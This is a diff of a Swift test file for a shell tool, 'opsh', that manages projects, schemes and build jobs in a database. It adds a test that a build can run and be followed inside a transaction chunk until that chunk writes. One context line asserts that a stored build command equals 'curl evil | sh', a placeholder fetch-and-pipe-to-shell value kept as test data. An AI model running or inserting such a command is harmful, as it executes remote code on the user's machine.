@@ -221,6 +221,28 @@ import Testing
         #expect(try sandbox.sqlite("SELECT buildCommand FROM schemes") == "curl evil | sh")
     }
 
+    /// A chunk that has not written holds no lock: a build started and
+    /// followed in it streams its log (its writer is the store's, not the
+    /// chunk's); after a write the same is refused with the reason.
+    @Test func aBuildRunsAndIsFollowedInAChunkUntilItWrites() throws {
+        let sandbox = try prepared()
+        let repository = try sandbox.gitRepository(tags: ["v1.0.0"])
+        let terminal = try shell(sandbox)
+        terminal.send("projects.insert{ bundleIdentifier = 'p', name = 'P', gitRepositoryURL = '\(repository)' }; s = schemes.insert{ projectBundleIdentifier = 'p', name = 'R', buildCommand = 'echo built-it', platforms = {'linux'} }\r")
+        terminal.expect("committed: ")
+        terminal.expect("opsh> ")
+        terminal.send("b = jobs.start{ scheme = s.id, version = 'v1.0.0' }; print('status', jobs.follow(b.id).status)\r")
+        terminal.expect("built-it", timeout: 20)
+        terminal.expect("status\tsucceeded", timeout: 20)
+        terminal.expect("opsh> ")
+        terminal.send("db.exec(\"UPDATE notes SET body = 'j' WHERE id = 1\"); jobs.start{ scheme = s.id, version = 'v1.0.0' }\r")
+        terminal.expect("jobs.start cannot run inside a chunk that has written")
+        terminal.expect("opsh> ")
+        leave(terminal)
+        #expect(try sandbox.sqlite("SELECT body FROM notes WHERE id = 1") == "n1")
+        #expect(try sandbox.sqlite("SELECT count(*) FROM builds WHERE status = 'succeeded'") == "1")
+    }
+
     @Test func undoIsTheShellsAndAScriptSaysSo() throws {
         let sandbox = try prepared()
         let result = try sandbox.opsh(["-e", "undo()"])
